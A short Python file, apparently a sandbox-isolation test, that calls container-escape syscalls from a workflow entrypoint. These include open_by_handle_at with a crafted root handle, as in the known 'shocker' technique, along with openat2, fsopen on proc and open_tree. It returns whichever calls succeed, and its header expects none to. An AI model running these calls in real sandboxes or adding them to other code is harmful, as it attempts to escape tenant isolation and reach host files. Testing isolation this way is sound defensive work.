"""Open a file by its handle, past every path check (the way out of old containers).

Line: host file and /proc reads
End: complete []
"""

import ctypes

from workers import WorkflowEntrypoint

NAME_TO_HANDLE, OPEN_BY_HANDLE, OPENAT2, FSOPEN, OPEN_TREE = 303, 304, 437, 430, 428


class TenantWorkflow(WorkflowEntrypoint):
    async def run(self, event, step):
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        handle = (ctypes.c_uint8 * 136).from_buffer_copy(b"\x08\0\0\0\x01\0\0\0\x02" + b"\0" * 127)
        place = ctypes.create_string_buffer(b"/")
        size = ctypes.create_string_buffer(24)
        mount = ctypes.c_int()
        calls = {
            "open_by_handle_at": (OPEN_BY_HANDLE, 3, handle, 0),
            "name_to_handle_at": (NAME_TO_HANDLE, -100, place, handle, ctypes.byref(mount), 0),
            "openat2": (OPENAT2, -100, place, size, ctypes.c_long(24)),
            "fsopen": (FSOPEN, ctypes.create_string_buffer(b"proc"), 0),
            "open_tree": (OPEN_TREE, -100, place, 1),
        }
        return [name for name, call in calls.items() if libc.syscall(*call) >= 0]
